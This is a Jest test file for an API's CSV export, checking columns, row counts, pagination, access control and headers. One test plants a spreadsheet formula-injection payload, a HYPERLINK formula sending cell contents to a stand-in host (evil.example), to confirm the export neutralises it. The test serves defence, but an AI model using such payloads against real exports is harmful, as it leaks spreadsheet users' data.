import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { startApp, type TestApp } from '../support/app.js';
import type { Client, Reply } from '../support/client.js';
import { ApiDocument, isObject, type Json, listOf, type Operation, partOf } from '../support/document.js';
import { RECIPES } from './calls/recipes.js';
import { World } from './calls/world.js';

const CSV = { accept: 'text/csv' };
/** more than is read at once */
const MANY = 1_203;

/** The operations that answer several things at once, in pages or not. */
const isList = ({ method, said }: Operation): boolean => {
  const content = partOf(partOf(partOf(said['responses'])['200'])['content']);
  const { properties } = partOf(partOf(content['application/json'])['schema']);
  return method === 'GET' && partOf(partOf(properties)['data'])['type'] === 'array';
};

/** What the document says of `data` of an operation. */
const dataOf = (document: ApiDocument, { said }: Operation) => {
  const content = partOf(partOf(partOf(said['responses'])['200'])['content']);
  const { properties } = partOf(partOf(content['application/json'])['schema']);
  return { data: document.resolve(partOf(properties)['data']), csv: 'text/csv' in content };
};

/** The columns that the document's schema of a row comes down to. */
function columnsIn(document: ApiDocument, schema: Json | undefined, above = ''): string[] {
  const part = document.resolve(schema);
  const forms = [part['allOf'], part['oneOf'], part['anyOf']].flatMap(listOf);
  const [only = part] = forms.filter((each) => partOf(each)['type'] !== 'null');
  const { properties } = document.resolve(only);
  if (!isObject(properties)) return [above];
  return Object.entries(properties).flatMap(([name, each]) =>
    columnsIn(document, each, above === '' ? name : `${above}.${name}`),
  );
}

describe('every list as CSV', () => {
  let app: TestApp;
  let world: World;
  let documents: ApiDocument[];

  beforeAll(async () => {
    app = await startApp();
    world = await World.in(app);
    documents = await Promise.all([ApiDocument.at(app.url, 1), ApiDocument.at(app.url, 2)]);
    await world.shipment(world.customer);
    await world.allocation(world.customer);
    await world.hold(world.customer);
    await app.settled();
  });
  afterAll(() => app.close());

  const rowsOf = (reply: Reply): Record<string, string>[] =>
    parse(reply.text, { columns: true }) as Record<string, string>[];
  const callerOf = (operation: Operation): Client =>
    RECIPES[operation.key]?.of === 'caller' ? world.customer : app.as('admin');

  async function urlOf({ key, path }: Operation): Promise<string> {
    if (!path.includes('{')) return path;
    const id = (await RECIPES[key]?.target?.(world, world.customer)) ?? '';
    return path.replace(/\{\w+\}/, encodeURIComponent(id));
  }

  it('has the columns that its document says, and the rows that JSON has', async () => {
    const faults: string[] = [];
    let lists = 0;
    for (const document of documents) {
      for (const operation of document.operations.filter(isList)) {
        lists++;
        const [as, url] = [callerOf(operation), await urlOf(operation)];
        const page = `${url}?limit=100`;
        const [json, csv] = [await as.get(page), await as.get(page, CSV)];
        const asked = json.status === 400 ? url : page;
        const plain = json.status === 400 ? await as.get(url) : json;
        const sheet = csv.status === 400 ? await as.get(url, CSV) : csv;
        const content = partOf(partOf(partOf(operation.said['responses'])['200'])['content']);
        const { properties } = partOf(partOf(content['application/json'])['schema']);
        const wanted = columnsIn(document, partOf(partOf(properties)['data'])['items']);
        const head = (sheet.text.split('\r\n')[0] ?? '').split(',');
        // what is written meanwhile, such as the entry of a handler, may stand in the sheet and not in the page before it
        const most = (await as.get(asked)).rows.length;
        const rows = rowsOf(sheet).length;
        const told = [sheet.status, sheet.headers.get('content-type'), [...head].sort().join(), rows];
        const due = [
          200,
          'text/csv; charset=utf-8; header=present',
          wanted.sort().join(),
          Math.min(Math.max(rows, plain.rows.length), most),
        ];
        if (told.join() !== due.join()) faults.push(`${operation.path}: ${told.join()}, not ${due.join()}`);
      }
    }
    expect(faults).toEqual([]);
    expect(lists).toBeGreaterThan(25);
  }, 240_000);

  it('has the rows of every report, and says how fresh they are', async () => {
    const faults: string[] = [];
    let reports = 0;
    for (const document of documents)
      for (const operation of document.operations) {
        const { data, csv } = dataOf(document, operation);
        const { rows } = partOf(data['properties']);
        if (!csv || rows === undefined) continue;
        reports++;
        const as = app.as('admin');
        const [json, sheet] = [await as.get(operation.path), await as.get(operation.path, CSV)];
        const head = (sheet.text.split('\r\n')[0] ?? '').split(',').sort();
        const wanted = columnsIn(document, partOf(rows)['items']).sort();
        const fresh = new Date(sheet.headers.get('data-as-of') ?? '').getTime() > 0;
        const told = [sheet.status, head.join(), rowsOf(sheet).length, fresh].join();
        const due = [200, wanted.join(), listOf(partOf(json.body.data as Json)['rows']).length, true].join();
        if (told !== due) faults.push(`${operation.path}: ${told}, not ${due}`);
      }
    expect(faults).toEqual([]);
    expect(reports).toBeGreaterThanOrEqual(8);
  }, 60_000);

  it('says what it is and that JSON is another answer', async () => {
    const reply = await app.as('manager').get('/v2/orders', CSV);
    expect(reply.headers.get('content-disposition')).toBe('attachment; filename="orders.csv"');
    expect(reply.headers.get('vary')).toMatch(/\bAccept\b/);
    expect((await app.as('manager').get('/v2/orders')).headers.get('vary')).toMatch(/\bAccept\b/);
    expect(reply.text).toMatch(/^id,number,.*total\.amount,total\.currency/);
  });

  it('is the whole list, and a page when a page is asked for', async () => {
    const customers = Array.from({ length: MANY }, (_, at) => ({
      _id: `export-${String(at).padStart(5, '0')}`,
      name: `Export ${at}`,
      words: ['export'],
      email: null,
      userId: null,
      version: 1,
      createdAt: new Date(1_700_000_000_000 + (at % 10)),
    }));
    await app.database.collection<{ _id: string }>('customers').insertMany(customers);
    const manager = app.as('manager');
    for (const version of [1, 2]) {
      const rows = rowsOf(await manager.get(`/v${version}/customers?q=export`, CSV));
      expect(new Set(rows.map(({ id }) => id)).size).toBe(MANY);
      expect(rows).toHaveLength(MANY);
    }
    const page = await manager.get('/v2/customers?q=export&limit=7', CSV);
    expect(rowsOf(page)).toHaveLength(7);
    const following = /<([^>]+)>; rel="next"/.exec(page.headers.get('link') ?? '')?.[1] ?? '';
    const second = rowsOf(await manager.get(following, CSV));
    expect(second).toHaveLength(7);
    expect(second[0]).not.toEqual(rowsOf(page)[0]);
  }, 120_000);

  it('shows to each what they may see, and refuses in the envelope', async () => {
    await world.order(world.stranger);
    const own = rowsOf(await world.stranger.get('/v2/orders', CSV));
    expect(own.length).toBeGreaterThan(0);
    expect(new Set(own.map((row) => row['customerId']))).toEqual(new Set([world.stranger.customerId]));
    for (const [as, path, status] of [
      [app.anonymous(), '/v2/orders', 401],
      [world.customer, '/v2/customers', 403],
      [app.as('manager'), '/v2/orders?colour=red', 400],
      [app.as('manager'), '/v2/orders?cursor=x', 400],
    ] as const) {
      const reply = await as.get(path, CSV);
      expect([reply.status, reply.body.success]).toEqual([status, false]);
      expect(reply.headers.get('content-type')).toContain('application/json');
    }
  });

  it('brings no formula into a spreadsheet', async () => {
    const name = '=HYPERLINK("http://evil.example?"&A1)';
    await world.given.product(0, { sku: 'EVIL-1', name });
    const reply = await app.anonymous().get('/v2/products?sku=EVIL-1', CSV);
    expect(rowsOf(reply)[0]?.['name']).toBe(`'${name}`);
    const ledger = await app.as('manager').get(`/v2/inventory/${world.product.id}/ledger`, CSV);
    expect(rowsOf(ledger).length).toBeGreaterThan(0);
  });
});
